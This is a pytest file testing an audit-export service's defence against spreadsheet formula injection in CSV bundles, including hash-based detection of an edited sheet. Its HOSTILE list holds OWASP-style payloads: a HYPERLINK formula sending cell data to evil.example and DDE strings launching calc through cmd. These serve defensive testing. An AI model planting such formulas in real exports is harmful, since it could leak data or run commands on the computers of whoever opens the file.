"""CSV exports a spreadsheet cannot be turned against, with exact values kept for verification."""

from __future__ import annotations

import copy
import csv
import io
import tarfile
from pathlib import Path

import pytest

from services.audit import spreadsheet
from services.audit.export import (
    COLUMNS,
    View,
    build_manifest,
    bundle_files,
    select_rows,
    verify_bundle,
)
from services.audit.export import write_bundle as write

from .conftest import Rows, link, stored, totals_of
from .test_export import NOW

# OWASP's formula starts, the quote that escapes them, and harmless text.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
# What can reach a cell of its own: the contract refuses control characters in officer, unit
# and area (issue 14), so the tab and CR starts are only tested on neutralise/restore above.
CELL_VALUES = [text for text in HOSTILE if text.isprintable()]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_starts_are_neutralised_and_restored_exactly(cell: str) -> None:
    shown = spreadsheet.neutralise(cell)
    assert shown.startswith("'") and shown[1:] == cell
    assert spreadsheet.restore(shown) == cell


@pytest.mark.parametrize("cell", ["PC4101", "Stronghold Thames Valley", "", "a=b", "3-1"])
def test_plain_cells_are_left_alone(cell: str) -> None:
    assert spreadsheet.neutralise(cell) == cell == spreadsheet.restore(cell)


def _hostile_chain(events: list[dict]) -> Rows:
    events = copy.deepcopy(events)
    for e, text in zip(events, CELL_VALUES, strict=False):
        e["actor"]["officer_id"] = text
        e["actor"]["unit"] = text
        e["location"]["area"] = text
    recorded = [f"2026-11-22T{10 + i:02d}:00:00+00:00" for i in range(len(events))]
    return link(stored(events, recorded))


def _csv_bundle(tmp_path: Path, rows: Rows) -> Path:
    selected = select_rows(rows, View())
    data, sheet = bundle_files(selected, "csv")
    manifest = build_manifest(
        "op", selected, data, "jsonl", claimed=totals_of(selected),
        live_head=(rows[-1]["seq"], rows[-1]["hash"]), view=View(), created_at=NOW,
        created_by="auditor-1", sheet=sheet,
    )  # fmt: skip
    path = tmp_path / "bundle.tar"
    write(path, manifest, data, sheet)
    return path


def test_csv_bundle_is_safe_to_open_and_verifies_on_exact_values(tmp_path: Path) -> None:
    from schemas.examples import example_events

    rows = _hostile_chain(example_events())
    path = _csv_bundle(tmp_path, rows)
    with tarfile.open(path) as tar:
        names = set(tar.getnames())
        sheet = tar.extractfile("events.csv").read()  # type: ignore[union-attr]
        events = tar.extractfile("events.jsonl").read()  # type: ignore[union-attr]
    assert names == {"manifest.json", "events.jsonl", "events.csv"}
    header, records = spreadsheet.read(sheet)
    # every cell of the sheet as a spreadsheet sees it: none begins a formula
    cells = [c for row in csv.reader(io.StringIO(sheet.decode(), newline="")) for c in row]
    assert len(cells) == len(COLUMNS) * (len(rows) + 1)
    assert not [c for c in cells if c.startswith(spreadsheet.FORMULA_STARTS)]
    assert sum(c.startswith("'") for c in cells) >= 3 * len(CELL_VALUES)
    # the machine-readable events file keeps the exact values, and the bundle verifies
    assert b'"officer_id":"=HYPERLINK' in events
    report = verify_bundle(path)
    assert report.ok, report.to_dict()
    assert records[0][header.index("officer_id")] == HOSTILE[0]


def test_an_edited_spreadsheet_is_caught(tmp_path: Path) -> None:
    from schemas.examples import example_events

    rows = _hostile_chain(example_events())
    path = _csv_bundle(tmp_path, rows)
    out = tmp_path / "x"
    with tarfile.open(path) as tar:
        tar.extractall(out, filter="data")
    sheet = out / "events.csv"
    sheet.chmod(0o644)
    sheet.write_bytes(sheet.read_bytes().replace(b"'=HYPERLINK", b"=HYPERLINK", 1))
    report = verify_bundle(out)
    assert not report.ok
    assert any("events.csv SHA-256" in p for p in report.problems)
